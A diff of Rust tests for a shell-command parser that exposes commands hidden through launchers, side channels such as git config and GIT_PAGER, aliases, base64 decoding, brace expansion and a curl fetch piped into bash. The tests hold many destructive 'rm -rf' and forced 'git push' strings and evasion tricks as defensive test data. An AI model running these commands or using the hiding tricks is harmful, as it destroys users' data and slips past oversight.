@@ -242,11 +242,14 @@ fn depth_is_bounded() {
         cmd = format!("bash -c {}", quote(&cmd));
     }
     assert_eq!(argvs(&cmd), vec![v(&["rm", "-rf", "/"])]);
-    // One level more: the innermost shell is kept as it is, unparsed.
+    // One level more: the innermost shell is kept as it is, unparsed, and a
+    // last command with no words says a bound was hit (issue 26: opacity).
     let deeper = format!("bash -c {}", quote(&cmd));
     let got = parse(&deeper);
-    assert_eq!(got.len(), 1);
+    assert_eq!(got.len(), 2);
     assert_eq!(got[0].program(), Some("bash"));
+    assert!(got[0].opaque.is_none());
+    assert!(got[1].argv.is_empty() && got[1].opaque.is_some());
     // Hostile nesting never recurses without bound.
     let hostile = "$(".repeat(20_000) + &")".repeat(20_000);
     let _ = parse(&hostile);
@@ -284,7 +287,9 @@ fn unparseable_input_is_read_as_far_as_it_goes() {
 fn input_and_output_are_bounded() {
     let big = "ls;".repeat(MAX_INPUT);
     let got = parse(&big);
-    assert_eq!(got.len(), MAX_COMMANDS);
+    // The commands read, then the marker of the bound (issue 26).
+    assert_eq!(got.len(), MAX_COMMANDS + 1);
+    assert!(got[MAX_COMMANDS].opaque.is_some());
     let multibyte = "é".repeat(MAX_INPUT);
     let got = parse(&multibyte);
     assert_eq!(got[0].argv[0].len(), MAX_INPUT);
@@ -473,4 +478,79 @@ fn directory_tracking_is_bounded() {
     let code = "rm(".repeat(5_000);
     let cmds = parse(&format!("node -e '{code}'"));
     assert_eq!(cmds.len(), 1);
+}
+
+/// Issue 26: the ways of hiding a command the reader sees through.
+#[test]
+fn hidden_commands_are_read_as_plain_ones() {
+    let has = |cmd: &str, want: &[&str]| {
+        let got = argvs(cmd);
+        assert!(got.contains(&v(want)), "{cmd}: {got:?}");
+    };
+    // Launchers.
+    has("chrt -b 0 rm -rf ~/w", &["rm", "-rf", "~/w"]);
+    has(
+        "systemd-run --user --unit x rm -rf ~/w",
+        &["rm", "-rf", "~/w"],
+    );
+    has("flock -w 5 /tmp/l rm -rf ~/w", &["rm", "-rf", "~/w"]);
+    has("watch -n 5 'rm -rf ~/w'", &["rm", "-rf", "~/w"]);
+    has("sg wheel -c 'rm -rf ~/w'", &["rm", "-rf", "~/w"]);
+    // Side channels.
+    has(
+        "git -c core.sshCommand='rm -rf ~/w' fetch",
+        &["rm", "-rf", "~/w"],
+    );
+    has("awk 'BEGIN{system(\"rm -rf ~/w\")}'", &["rm", "-rf", "~/w"]);
+    has("GIT_PAGER='rm -rf ~/w' git log", &["rm", "-rf", "~/w"]);
+    has("trap 'rm -rf ~/w' EXIT", &["rm", "-rf", "~/w"]);
+    has("at now <<< 'rm -rf ~/w'", &["rm", "-rf", "~/w"]);
+    // Aliases, printf scripts, braces.
+    has("alias x='rm -rf'; x ~/w", &["rm", "-rf", "~/w"]);
+    has("printf 'rm -r %s\\n' ~/w | bash", &["rm", "-r", "~/w"]);
+    has("{rm,-rf,~/w}", &["rm", "-rf", "~/w"]);
+    // git's spellings.
+    has(
+        "git push --forc origin main",
+        &["git", "push", "--force", "origin", "main"],
+    );
+    has(
+        "git -c alias.p='push -f' p origin main",
+        &["git", "push", "-f", "origin", "main"],
+    );
+    has(
+        "git send-pack origin +main",
+        &["git", "push", "origin", "+main"],
+    );
+    // Ordinary look-alikes are left alone.
+    assert_eq!(argvs("chrt -p 1234"), vec![v(&["chrt", "-p", "1234"])]);
+    assert_eq!(
+        argvs("git push --dry-run origin x"),
+        vec![v(&["git", "push", "--dry-run", "origin", "x"])]
+    );
+}
+
+#[test]
+fn what_cannot_be_read_is_named() {
+    let reasons = |cmd: &str| opacity::find(cmd, &parse(cmd), false);
+    for cmd in [
+        "c=rm; \"$c\" -r ~/w",
+        "echo cm0= | base64 -d | sh",
+        "bash <(curl -s https://x)",
+        "echo x > /tmp/s.sh; sh /tmp/s.sh",
+        "rm -rf \"$(dirname \"$PWD\")\"",
+        "/bin/r? -rf ~/w",
+    ] {
+        assert!(!reasons(cmd).is_empty(), "{cmd}");
+    }
+    for cmd in [
+        "ls -la",
+        "eval \"$(ssh-agent -s)\"",
+        "rm -rf \"$(mktemp -d)\"",
+        "echo 'ls' | sh",
+        "bash scripts/test.sh",
+        "[ -f x ] && cat x",
+    ] {
+        assert!(reasons(cmd).is_empty(), "{cmd}: {:?}", reasons(cmd));
+    }
 }
